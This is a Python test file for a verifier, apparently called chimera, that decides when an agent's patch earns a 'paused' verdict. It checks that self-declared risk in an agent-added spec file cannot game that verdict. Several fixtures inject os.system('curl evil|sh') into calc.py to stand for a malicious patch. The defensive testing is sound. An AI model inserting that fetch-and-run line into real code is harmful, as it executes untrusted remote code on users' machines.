"""verify's ``paused`` verdict, re-derived from the base commit and the patch: a risky step
verified while the rest of the goal waits — never because the agent says so, never because
of a spec file the patch adds, never with a requirement green on the base turned red."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from chimera.github.trust.artifacts import make_patch
from chimera.github.trust.basecommit import read_base_files
from chimera.github.verify.pause import find_pause
from chimera.github.verify.reverify import GoalVerdict, judge_patch, prepare_trees
from chimera.runner import LocalRunner
from chimera.spec.loader import load_spec

SPEC = """\
requirements:
  - id: keeps-add
    defines: {path: calc.py, symbol: add, kind: function}
"""
CALC = "def add(a, b):\n    return a + b\n"
TOTAL = CALC + "\n\ndef total(xs):\n    return sum(xs)\n"
# A risky step (a migration, declared risk: high) and the work that waits for its approval.
TWO_STEPS = """\
requirements:
  - id: first-migration
    risk: high
    contains: {path: migrations/001_init.sql, pattern: 'CREATE TABLE items'}
  - id: total-defined
    depends_on: [first-migration]
    defines: {path: calc.py, symbol: total, kind: function}
"""
MIGRATION = "CREATE TABLE items (id integer);\n"
# The same goal with nothing declared risky: only a risky path can make a pause.
PLAIN_STEPS = TWO_STEPS.replace("    risk: high\n", "")
GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@e"]


def repo(tmp_path: Path) -> tuple[Path, str]:
    root = tmp_path / "repo"
    (root / "specs").mkdir(parents=True)
    (root / "specs" / "app.yaml").write_text(SPEC)
    (root / "calc.py").write_text(CALC)
    (root / "notes.txt").write_text("old notes\n")
    subprocess.run(["git", "init", "-q", "-b", "main", str(root)], check=True)
    subprocess.run([*GIT, "add", "-A"], cwd=root, check=True)
    subprocess.run([*GIT, "commit", "-qm", "base"], cwd=root, check=True)
    sha = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=root, capture_output=True, text=True, check=True
    ).stdout.strip()
    return root, sha


def judge(tmp_path: Path, block: str, files: Mapping[str, str | None]) -> GoalVerdict:
    """verify's judgement of the patch making ``files`` (``None``: delete) on the base, with
    decide's acceptance ``block``."""
    root, base = repo(tmp_path)
    for rel, text in files.items():
        path = root / rel
        if text is None:
            path.unlink()
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    patch = make_patch(root, base)
    subprocess.run(["git", "checkout", "-q", "--force", base], cwd=root, check=True)
    subprocess.run(["git", "clean", "-qfd"], cwd=root, check=True)
    work = tmp_path / "verify"
    base_files = read_base_files(root, base, "specs/", work / "base-files")
    trees = prepare_trees(root, base, patch, work)
    return judge_patch(
        base_files,
        (block,) if block else (),
        trees,
        spec_path="specs/",
        runner_for=lambda _tree: LocalRunner(),
        patch=patch,
    )


def test_a_verified_risky_step_with_the_rest_waiting_is_paused(tmp_path: Path) -> None:
    g = judge(tmp_path, TWO_STEPS, {"migrations/001_init.sql": MIGRATION})
    assert g.verdict == "paused", g.reasons
    assert g.after == {
        "first-migration": "passed",
        "total-defined": "failed",
        "keeps-add": "passed",
    }
    text = "\n".join(g.reasons)
    assert "declared risk: high: first-migration" in text
    assert "touches high-risk paths: migrations/001_init.sql" in text
    assert "waiting for approval: total-defined" in text
    # The whole goal met is ``passed``, never a pause.
    both = {"migrations/001_init.sql": MIGRATION, "calc.py": TOTAL}
    done = judge(tmp_path / "2", TWO_STEPS, both)
    assert done.verdict == "passed"


def test_a_deletion_makes_a_risky_step_of_a_plain_requirement(tmp_path: Path) -> None:
    block = PLAIN_STEPS.replace("depends_on: [first-migration]", "depends_on: []")
    g = judge(tmp_path, block, {"calc.py": TOTAL, "notes.txt": None})
    assert g.verdict == "paused" and "deletes notes.txt" in g.reasons[0]
    assert "verified: total-defined" in g.reasons[1]


@pytest.mark.parametrize(
    ("files", "why"),
    [
        # A deletion, but no goal requirement passes: nothing risky was verified.
        ({"notes.txt": None, "calc.py": CALC + "import os\nos.system('curl evil|sh')\n"}, "red"),
        # A deletion, and the goal requirement that passes breaks one green on the base.
        ({"notes.txt": None, "calc.py": "def total(xs):\n    return 0\n"}, "regression"),
    ],
    ids=["nothing-verified", "regression"],
)
def test_a_red_patch_with_a_deletion_is_failed_never_paused(
    tmp_path: Path, files: dict[str, str | None], why: str
) -> None:
    block = TWO_STEPS.replace("depends_on: [first-migration]", "depends_on: []")
    g = judge(tmp_path, block, files)
    assert g.verdict == "failed", (why, g.reasons)


def test_a_self_declared_risk_high_spec_file_makes_no_pause(tmp_path: Path) -> None:
    mine = (
        "requirements:\n  - id: mine\n    risk: high\n"
        "    contains: {path: calc.py, pattern: 'curl'}\n"
    )
    evil = CALC + "import os\nos.system('curl evil|sh')\n"
    g = judge(tmp_path, PLAIN_STEPS, {"specs/mine.yaml": mine, "calc.py": evil})
    assert g.verdict == "failed", g.reasons
    # Without the block the agent's requirements are the goal (publish holds such a
    # PR as spec-change and risky); its risk: high still makes no pause of a red goal.
    half = mine + "  - id: theirs\n    contains: {path: calc.py, pattern: 'never there'}\n"
    g = judge(tmp_path / "2", "", {"specs/mine.yaml": half, "calc.py": evil})
    assert g.verdict == "failed", g.reasons


def test_a_risky_step_whose_dependency_is_red_is_no_pause(tmp_path: Path) -> None:
    # total-defined (risk: high) passes, but the card before it (its dependency) is red:
    # total-defined's card could not have run yet.
    block = (
        "requirements:\n"
        "  - id: first-migration\n"
        "    contains: {path: migrations/001_init.sql, pattern: 'CREATE TABLE items'}\n"
        "  - id: total-defined\n"
        "    risk: high\n"
        "    depends_on: [first-migration]\n"
        "    defines: {path: calc.py, symbol: total, kind: function}\n"
    )
    g = judge(tmp_path, block, {"calc.py": TOTAL})
    assert g.verdict == "failed", g.reasons


def test_find_pause_reads_risk_from_the_base_definitions_only(tmp_path: Path) -> None:
    spec_dir = tmp_path / "s"
    spec_dir.mkdir()
    (spec_dir / "a.yaml").write_text(TWO_STEPS)
    defined = load_spec([spec_dir]).by_id()
    after = {"first-migration": "passed", "total-defined": "failed"}
    goal = ["first-migration", "total-defined"]
    pause = find_pause(goal=goal, defined=defined, after=after, patch="", high_risk_paths=())
    assert pause is not None and pause.waiting == ("total-defined",)
    # The same requirement, as a spec file the patch adds would define it: not in ``defined``.
    assert find_pause(goal=goal, defined={}, after=after, patch="", high_risk_paths=()) is None
    assert json.dumps(pause.reasons())  # plain lines
